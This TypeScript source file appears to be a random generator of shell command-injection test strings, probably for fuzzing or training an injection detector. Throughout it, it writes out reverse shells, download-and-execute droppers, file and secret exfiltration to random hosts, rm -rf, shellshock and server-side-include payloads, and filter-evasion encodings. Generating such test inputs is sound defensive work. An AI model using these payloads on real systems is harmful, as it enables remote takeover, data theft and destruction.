// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax, not templates
import { unixFile } from "./files.ts"
import { digits, type Grammar, hostName, identifier, ipAddress, oneOf } from "./grammar.ts"
import type { Random } from "./random.ts"
import { hostValue, insertPiece, windowsInjection } from "./windows-command-injection.ts"

/**
 * Injections into a shell, written from the POSIX shell language (XCU chapter 2), bash(1), and the
 * documentation of cmd.exe and PowerShell: a value, a way to begin another command, the command in
 * one of the spellings that the shell allows, and an ending.
 */
export function commandInjection(random: Random): string {
  return oneOf(random, FORMS)
}

const FORMS: readonly Grammar[] = [
  unixInjection,
  unixInjection,
  unixInjection,
  unixInjection,
  unixInjection,
  windowsInjection,
  windowsInjection,
  codeCall,
  codeCall,
  dropper,
  dropper,
  arithmeticProbe,
  shellshock,
  serverSideInclude,
  bareCommand,
]

/** A command that stands alone has arguments, or it would be a word like any other. */
function bareCommand(random: Random): string {
  const line = unixLine(random)
  return /[ /]/.test(line) ? line : bareCommand(random)
}

function unixInjection(random: Random): string {
  const command = disguise(random, unixLine(random))
  const open = random.pick(["", "", "", "'", '"', "')", '")', "\\"])
  const gap = random.pick(["", "", " "])
  const value = hostValue(random)
  const close = open === "" ? "" : random.pick(["", open.slice(0, 1), ` ${open.slice(0, 1)}`, " #"])
  return oneOf(random, [
    (r) => `${value}${open}${gap}${separator(r)}${gap}${command}${trailer(r)}${close}`,
    (r) => `${value}${open}${gap}${separator(r)}${gap}${command}${trailer(r)}${close}`,
    (r) => `${value}${open}${gap}${separator(r)}${gap}${command}${trailer(r)}${close}`,
    () => `${value}${open}$(${command})${close}`,
    () => `${value}${open}\`${command}\`${close}`,
    (r) => `${value}${gap}${r.pick([">", "<", ">>", "<("])}${gap}${command}`,
    (r) => `${value}${separator(r)}${command}${separator(r)}${unixLine(r)}`,
    (r) => `-${r.pick(["o", "e", "i", "exec"])} ${r.pick(["ProxyCommand=", ""])}${command}`,
    (r) =>
      `${identifier(r)}=${value}${encodeSeparator(separator(r))}${command.replaceAll(" ", r.pick(["+", "%20"]))}`,
  ])
}

function separator(random: Random): string {
  return random.pick([
    ";",
    ";",
    ";",
    "|",
    "|",
    "||",
    "&",
    "&&",
    "\n",
    "%0a",
    "%0d%0a",
    "\r\n",
    ";;",
    "|&",
    "& ",
    "; ",
    "%3b",
    "%7c",
    "%26",
    "%26%26",
    "%0A",
    "\\n",
    "';'",
    "|| ",
    " | ",
  ])
}

function encodeSeparator(text: string): string {
  return text.replace(/[;|&\n\r]/g, (character) => encodeURIComponent(character))
}

function trailer(random: Random): string {
  return random.pick([
    "",
    "",
    "",
    "",
    ";",
    "#",
    " #",
    "|",
    "&",
    "||",
    " &",
    "\n",
    "%0a",
    ";echo",
    " -- ",
    "'",
    '"',
    "%00",
    " 2>&1",
    " > /dev/null",
  ])
}

/** One command line, or a pipe of them. */
function unixLine(random: Random): string {
  const first = commandWithArguments(random)
  if (random.chance(0.8)) return first
  const filter = oneOf(random, [
    (r) => `grep ${r.pick(["root", "-i pass", "-v nologin", identifier(r)])}`,
    (r) =>
      r.pick([
        "base64",
        "sh",
        "bash",
        "head -1",
        "tail -n 5",
        "wc -l",
        "xxd",
        "rev",
        "sort",
        "tee /tmp/x",
        "nl",
        "od -c",
        "cut -d: -f1",
        "awk '{print $1}'",
        "sed 's/a/b/'",
        "tr a b",
        "xargs",
      ]),
    (r) => `nc ${ipAddress(r)} ${r.between(1, 65535)}`,
    (r) => `curl -d @- http://${hostName(r)}/`,
  ])
  return `${first}${random.pick(["|", " | "])}${filter}`
}

function commandWithArguments(random: Random): string {
  return oneOf(random, COMMANDS)
}

const DOWNLOADED: Grammar = (r) =>
  `${r.pick(["http://", "https://", "ftp://", ""])}${hostName(r)}${r.pick(["", `:${r.between(80, 9999)}`])}/${identifier(r)}${r.pick([".sh", ".pl", "", ".php", ".txt", ".elf"])}`

const COMMANDS: readonly Grammar[] = [
  (r) =>
    `${r.pick(["cat", "cat", "cat", "head", "tail", "less", "more", "tac", "nl", "strings", "od -c", "xxd", "sort", "base64", "rev", "paste", "file", "stat", "wc -c"])} ${unixFile(r)}`,
  (r) =>
    `ls${r.pick(["", " -l", " -la", " -al", " -R", " -lah"])}${r.pick(["", ` ${r.pick(["/", "/etc", "/tmp", "/home", "..", "/var/www"])}`])}`,
  (r) =>
    r.pick([
      "id",
      "whoami",
      "pwd",
      "uname",
      "hostname",
      "ifconfig",
      "netstat",
      "ps",
      "env",
      "printenv",
      "set",
      "w",
      "who",
      "last",
      "date",
      "uptime",
      "df",
      "mount",
      "dir",
      "ls",
      "reboot",
      "arp",
      "lsb_release",
      "groups",
      "tty",
    ]),
  (r) =>
    r.pick([
      "uname -a",
      "ps aux",
      "ps -ef",
      "netstat -an",
      "netstat -tulpn",
      "ifconfig -a",
      "ip addr",
      "ip a",
      "df -h",
      "id -un",
      "w -h",
      "hostname -I",
      "crontab -l",
      "sudo -l",
      "lsof -i",
      "last -10",
      "history -c",
      "which python",
      "getent passwd",
      "env | sort",
      "ss -lnt",
    ]),
  (r) =>
    `ping ${r.pick(["-c", "-n", "-w", "-i"])} ${r.between(1, 30)} ${r.pick([ipAddress, hostName])(r)}`,
  (r) => `sleep ${r.pick([String(r.between(1, 60)), "10s", "0.5m"])}`,
  (r) =>
    `${r.pick(["nslookup", "dig", "host", "ping", "traceroute", "telnet", "ftp"])} ${identifier(r)}.${hostName(r)}`,
  (r) =>
    `wget ${r.pick(["", "-q ", "-O- ", "-qO - ", "-O /tmp/x "])}${DOWNLOADED(r)}${r.pick(["", " | sh", " -O /tmp/x", ";sh x", " && chmod +x x && ./x"])}`,
  (r) =>
    `curl ${r.pick(["", "-s ", "-k ", "-o /tmp/x ", "-fsSL "])}${DOWNLOADED(r)}${r.pick(["", " | bash", "|sh", " -o /tmp/x", ` -F f=@${unixFile(r)}`])}`,
  (r) =>
    `${r.pick(["nc", "ncat", "netcat"])} ${r.pick(["-e /bin/sh ", "-e /bin/bash ", "-lvp ", "", "-nv ", "-c bash "])}${ipAddress(r)} ${r.between(1, 65535)}`,
  (r) =>
    `${r.pick(["bash", "sh", "/bin/bash", "/bin/sh"])} -i >& /dev/tcp/${ipAddress(r)}/${r.between(1, 65535)} 0>&1`,
  (r) =>
    `${r.pick(["bash", "sh", "/bin/sh", "/bin/bash", "zsh", "cmd"])} -c ${r.pick(["'", '"'])}${r.pick(["id", "whoami", "ls -la", `cat ${unixFile(r)}`])}${r.pick(["'", '"'])}`,
  (r) =>
    `${r.pick(["python", "python3"])} -c ${r.pick(["'", '"'])}${r.pick(['import os;os.system("id")', "import socket,subprocess,os", 'print(open("/etc/passwd").read())', '__import__("os").popen("id").read()'])}${r.pick(["'", '"'])}`,
  (r) =>
    `${r.pick(["perl", "ruby"])} -e '${r.pick(['system("id")', 'exec "/bin/sh"', "print `id`", 'use Socket;$i="1.2.3.4";'])}'`,
  (r) =>
    `php -r '${r.pick(['system("id");', "phpinfo();", '$s=fsockopen("1.2.3.4",4444);', "echo 1+1;"])}'`,
  (r) =>
    `echo ${r.pick([identifier(r), digits(r, 5), "$((40+2))", "$HOME", "`id`", "$(whoami)", `'${identifier(r)}'`, "vulnerable"])}${r.pick(["", "", ` > /tmp/${identifier(r)}`, ` >> ${unixFile(r)}`, ""])}`,
  (r) =>
    `echo ${btoa(r.pick(["id", "whoami", "cat /etc/passwd", "ls -la"]))} | base64 ${r.pick(["-d", "--decode", "-D"])}${r.pick([" | sh", "|bash", ""])}`,
  (r) => `expr ${r.between(1, 99999)} ${r.pick(["+", "\\*", "-"])} ${r.between(1, 99999)}`,
  (r) =>
    `${r.pick(["rm -rf", "rm -f", "touch", "mkdir", "rmdir", "chmod 777", "chmod +x", "chown root", "mv x", "cp x"])} ${r.pick(["/", "*", "/tmp/x", "~", unixFile(r)])}`,
  (r) =>
    `find ${r.pick(["/", ".", "/etc", "/home"])} ${r.pick(["-name", "-iname"])} ${r.pick(["*.conf", "id_rsa", "'*.php'", "flag*"])}${r.pick(["", " -exec cat {} \\;", " 2>/dev/null"])}`,
  (r) => `grep ${r.pick(["-r", "-ri", "-R", "root", "-e"])} ${identifier(r)} ${unixFile(r)}`,
  (r) => `(${r.pick(["sleep 5", "id", "whoami", `cat ${unixFile(r)}`])})`,
  (r) =>
    `/${r.pick(["bin", "usr/bin", "sbin"])}/${r.pick(["cat", "id", "ls", "whoami", "uname", "wget", "curl", "ps", "sh"])}${r.pick(["", " -a", " -la", ` ${unixFile(r)}`])}`,
  (r) => `${r.pick(["mail", "sendmail"])} ${identifier(r)}@${hostName(r)} < ${unixFile(r)}`,
  (r) => `mkfifo /tmp/f;nc ${ipAddress(r)} ${r.between(1, 65535)} </tmp/f | /bin/sh >/tmp/f 2>&1`,
  (r) => `socat tcp:${ipAddress(r)}:${r.between(1, 65535)} exec:/bin/sh`,
  (r) =>
    `time if [ $(whoami|cut -c ${r.between(1, 9)}) == ${r.pick(["r", "w", "a"])} ]; then sleep ${r.between(1, 9)}; fi`,
  (r) => `awk 'BEGIN {system("${r.pick(["id", "whoami", "/bin/sh"])}")}'`,
]

/** Spellings that the shell undoes: quotes, backslashes, expansions, globs, encodings. */
function disguise(random: Random, line: string): string {
  if (random.chance(0.6)) return line
  return oneOf(random, [
    (r) =>
      line.replaceAll(
        " ",
        r.pick(["${IFS}", "$IFS", "$IFS$9", "%09", "\t", "+", "%20", "<", "{,}"]),
      ),
    (r) =>
      line.replace(/^[a-z]+/, (word) =>
        insertPiece(r, word, r.pick(["''", '""', "\\", "$@", "$*", "${x}", "``", "$1"])),
      ),
    (r) => line.replace(/^[a-z]+/, (word) => `${r.pick(["'", '"'])}${word}${r.pick(["'", '"'])}`),
    (r) => line.replace(/[a-z]+$/, (word) => insertPiece(r, word, r.pick(["?", "*", "''", "\\"]))),
    () => `{${line.replaceAll(" ", ",")}}`,
    () => `$'${[...line].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join("")}'`,
    () => `eval $(echo ${btoa(line)} | base64 -d)`,
    () => `$(printf '${[...line].map((c) => `\\${c.charCodeAt(0).toString(8)}`).join("")}')`,
    () => `$(rev<<<'${[...line].reverse().join("")}')`,
    (r) =>
      line.replaceAll("/", r.pick(["${HOME:0:1}", "${PATH:0:1}", "$(echo . | tr '!-0' '\"-1')"])),
    (r) =>
      line.replace(
        /^([a-z])([a-z]+)/,
        (_, head: string, tail: string) => `${identifier(r).slice(0, 1)}=${head};b=${tail};$a$b`,
      ),
    () => line.replace("/etc/passwd", "/???/p??s??"),
    () => `X='${line}';$X`,
  ])
}

/** Calls by which an interpreter hands a string to the shell. */
function codeCall(random: Random): string {
  const line = unixLine(random)
  const mark = random.pick(["'", '"'])
  const call = oneOf(random, [
    (r) =>
      `${r.pick(["system", "exec", "shell_exec", "passthru", "popen", "proc_open"])}(${mark}${line}${mark})`,
    (r) =>
      `${r.pick(["", "__import__('os')."])}${r.pick(["os.system", "os.popen", "subprocess.call", "system"])}(${mark}${line}${mark})`,
    () => `Runtime.getRuntime().exec(${mark}${line}${mark})`,
    () => `require('child_process').${random.pick(["exec", "execSync"])}(${mark}${line}${mark})`,
    () => `<?php system(${mark}${line}${mark}); ?>`,
    () => `<?=\`${line}\`?>`,
    () => `{\${system(${mark}${line}${mark})}}`,
    () => `IO.popen(${mark}${line}${mark}).read`,
    () => `%x(${line})`,
    () => `%{(#a=@java.lang.Runtime@getRuntime().exec(${mark}${line}${mark}))}`,
    () => `T(java.lang.Runtime).getRuntime().exec(${mark}${line}${mark})`,
    () => `s=call_user_func_array&vars[0]=system&vars[1][]=${encodeURIComponent(line)}`,
    () => `@eval(system(${mark}${line}${mark}))`,
    () => `assert(${mark}system('id')${mark})`,
    () =>
      `new java.lang.ProcessBuilder(${mark}sh${mark},${mark}-c${mark},${mark}${line}${mark}).start()`,
    () => `open(${mark}|${line}${mark})`,
  ])
  return `${random.pick(["", "", ";", "');", '";', "${@", "|"])}${call}${random.pick(["", ";", ";//", "}", ";#"])}`
}

/** Fetch, make executable, run: how a machine is taken over by one request. */
function dropper(random: Random): string {
  const [file, host] = [identifier(random), hostName(random)]
  const directory = random.pick(["/tmp", "/var/tmp", "/dev/shm", "/var/run", "/", "/mnt"])
  const tool = random.pick(["", "/bin/busybox ", "busybox "])
  const steps = [
    `cd ${directory}`,
    random.pick(["rm -rf *", `rm -rf ${file}`, `rm -f ${file}*`, ""]),
    random.pick([
      `${tool}wget http://${host}/${file}`,
      `${tool}wget${random.pick(["", " -q"])} http://${host}/${file} -O ${directory}/${file}`,
      `curl -O http://${host}/${file}`,
      `tftp -g -r ${file} ${host}`,
      `ftpget -u anonymous ${host} ${file} ${file}`,
    ]),
    random.pick([`chmod 777 ${file}`, `chmod +x ${file}`, "chmod 777 *", ""]),
    random.pick([
      `./${file}`,
      `sh ${file}`,
      `./${file} ${identifier(random)}`,
      `sh ${file} &`,
      `rm -rf ${file}`,
    ]),
  ].filter((step) => step !== "")
  const line = steps.join(random.pick(["; ", ";", " && ", "&&", "%3B", "%20%26%26%20", "|"]))
  const spelled = line.replaceAll(" ", random.pick([" ", " ", "+", "%20", "${IFS}"]))
  const [open, close] = random.pick([
    [";", ""],
    ["`", "`"],
    ["$(", ")"],
    ["|", ""],
    ["", ""],
    ["';", ";'"],
    ["&", "&"],
    ["\n", "\n"],
  ] as const)
  return `${hostValue(random)}${open}${spelled}${close}`
}

/** Makes the shell compute: the answer proves that one ran. */
function arithmeticProbe(random: Random): string {
  const [left, right] = [random.below(10_000), random.below(10_000)]
  const probe = random.pick([
    `expr ${left} ${random.pick(["+", "-", "\\*"])} ${right}`,
    `echo $((${left}${random.pick(["+", "*", "-"])}${right}))`,
    `echo ${identifier(random)}|md5sum`,
    `printf %d $((${left}+${right}))`,
    `let x=${left}+${right};echo $x`,
    `set /a (${left}+${right})`,
    `if [ ${left} -lt ${right} ]; then sleep ${random.between(1, 9)}; fi`,
  ])
  const spelled = random.chance(0.4) ? encodeURIComponent(probe) : probe
  const joint = `${random.pick(["", "'", '"'])}${separator(random)}`
  return `${hostValue(random)}${joint}${spelled}${trailer(random)}`
}

function shellshock(random: Random): string {
  const ignored = random.pick([":;", ":; ", "ignored;", "_; "])
  return `() { ${ignored}}; ${random.pick(["", "echo; ", "/bin/bash -c ", "echo Content-Type: text/plain; echo; "])}${unixLine(random)}`
}

function serverSideInclude(random: Random): string {
  return `<!--#exec cmd="${unixLine(random)}"${random.pick([" ", ""])}-->`
}
